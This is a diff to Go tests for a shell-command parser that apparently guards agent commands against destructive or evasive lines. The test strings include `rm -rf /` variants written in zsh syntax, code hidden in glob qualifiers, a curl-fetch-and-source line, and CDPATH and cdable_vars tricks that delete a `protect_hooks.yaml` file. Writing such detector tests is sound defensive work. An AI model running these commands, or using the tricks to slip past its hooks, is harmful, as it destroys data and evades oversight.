@@ -57,6 +57,10 @@ var attackMatch = []string{
 	`Rm -rf /`,
 	`rm.exe -rf /`,
 	`/usr/bin/RM -rf /`,
+	// zsh, the shell of agents on macOS: =rm is the rm its PATH finds, and repeat N runs a command.
+	`=rm -rf /`,
+	`repeat 1 rm -rf /`,
+	`repeat 3 sudo =rm -rf /`,
 }
 
 var attackUnknown = []string{
@@ -67,6 +71,15 @@ var attackUnknown = []string{
 	`source <(curl -s https://x)`,
 	`sudo -s`,
 	`trap "$X" EXIT`,
+	// zsh: a glob qualifier's code, $=x (x's value split into a command), options that change how
+	// the line is read.
+	`echo *(e:'rm -rf /':)`,
+	`echo *(e{rm -rf /})`,
+	`ls *(+f)`,
+	`x='rm -rf /'; $=x`,
+	`x='rm -rf /'; $~x`,
+	`setopt extendedglob; ls ^x`,
+	`unsetopt shwordsplit; echo`,
 }
 
 var attackNoMatch = []string{
@@ -81,6 +94,9 @@ var attackNoMatch = []string{
 	`sudo -l`,
 	`source ./env.sh`,
 	`RMDIR x`,
+	`echo '$=x' \$=x`,
+	`ls *(foo|bar) +(a)`,
+	`repeat`,
 }
 
 func TestAttackLines(t *testing.T) {
@@ -135,6 +151,30 @@ func TestUnknownPaths(t *testing.T) {
 		{"git commit -m $(cat <<'EOF'\nmsg\nEOF\n)", "the path $(cat <<'EOF'\nmsg\nEOF\n) is only known when the line runs"},
 		{"git commit -m \"$(cat x <<'EOF'\nmsg\nEOF\n)\"", "the path \"$(cat x <<'EOF'\nmsg\nEOF\n)\" is only known when the line runs"},
 		{"git commit -m \"$(tac <<'EOF'\nmsg\nEOF\n)\"", "the path \"$(tac <<'EOF'\nmsg\nEOF\n)\" is only known when the line runs"},
+	} {
+		l := Parse(tc.line)
+		got := ""
+		if len(l.UnknownPaths) > 0 {
+			got = l.UnknownPaths[0]
+		}
+		if got != tc.first {
+			t.Errorf("Parse(%q).UnknownPaths = %q, want first %q", tc.line, l.UnknownPaths, tc.first)
+		}
+	}
+}
+
+// TestCDSearch: with CDPATH or cdable_vars set, a relative cd goes where bash finds it, not to the
+// directory it names, so that the paths after it are only known when the line runs.
+func TestCDSearch(t *testing.T) {
+	for _, tc := range []struct{ line, first string }{
+		{`CDPATH=.system cd hooks && rm protect_hooks.yaml`, `protect_hooks.yaml is relative to hooks (found through CDPATH or cdable_vars), a directory only known when the line runs`},
+		{`export CDPATH=.system; cd hooks; rm x`, `x is relative to hooks (found through CDPATH or cdable_vars), a directory only known when the line runs`},
+		{`declare CD''PATH=.system; cd hooks; rm x`, `x is relative to hooks (found through CDPATH or cdable_vars), a directory only known when the line runs`},
+		{`printf -v $'\x43DPATH' .system; cd hooks; rm x`, `x is relative to hooks (found through CDPATH or cdable_vars), a directory only known when the line runs`},
+		{`shopt -s cdable_vars; h=.system/hooks; cd h && rm x`, `x is relative to h (found through CDPATH or cdable_vars), a directory only known when the line runs`},
+		{`CDPATH=/x; cd ./src && rm a`, ``},
+		{`CDPATH=/x; cd /tmp && rm a`, ``},
+		{`cd src && rm a`, ``},
 	} {
 		l := Parse(tc.line)
 		got := ""
